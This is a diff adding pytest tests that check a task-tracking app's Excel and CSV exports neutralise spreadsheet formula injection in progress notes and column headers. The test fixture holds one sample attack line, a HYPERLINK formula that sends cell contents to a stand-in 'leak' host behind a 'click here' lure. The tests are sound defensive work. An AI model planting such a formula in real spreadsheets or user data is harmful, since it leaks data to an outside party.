@@ -1,6 +1,9 @@
+import io
+
+import openpyxl
 import pytest
 
-from chibo import auth, queries
+from chibo import auth, queries, tasks
 from chibo.errors import InputError
 from tests.conftest import TODAY
 
@@ -110,3 +113,29 @@ def test_the_filter_builder_narrows_tasks_targets_and_meetings(demo_db):
     meetings_all = queries.filter_meetings(demo_db)
     assert meetings_all.total == 6
     assert queries.filter_meetings(demo_db, below_rate=0).total == 0
+
+
+# -- exports a spreadsheet opens -------------------------------------------------------------------------
+FORMULA = '=HYPERLINK("http://x.example/leak?"&A1,"Bấm vào đây")'
+
+
+def _with_formula_note(db):
+    task_id = db.scalar("SELECT t.id FROM tasks t JOIN documents d ON d.id = t.document_id"
+                        " WHERE d.month = DATE '2026-11-01' AND t.status IN ('in_progress', 'not_started') LIMIT 1")
+    tasks.record_progress(db, A, task_id, 40, FORMULA, today=TODAY)
+    return queries.run_sql(db, A, "SELECT ma_nhiem_vu, tien_do, ghi_chu AS \"@ghi chú\" FROM cap_nhat"
+                                  " WHERE ghi_chu LIKE '=%'", today=TODAY)
+
+
+def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_excel_download(demo_db):
+    sheet = openpyxl.load_workbook(io.BytesIO(_with_formula_note(demo_db).excel())).active
+    header, row = list(sheet.iter_rows(max_row=2))
+    assert header[2].value == "'@ghi chú"
+    assert row[2].value == "'" + FORMULA and row[2].data_type == "s"
+    assert isinstance(row[1].value, int)  # numbers stay numbers
+
+
+def test_a_formula_typed_as_a_progress_note_is_plain_text_in_the_csv_download(demo_db):
+    header, row = _with_formula_note(demo_db).csv().decode("utf-8-sig").splitlines()
+    assert header.endswith(",'@ghi chú")
+    assert row.endswith(',"\'' + FORMULA.replace('"', '""') + '"')
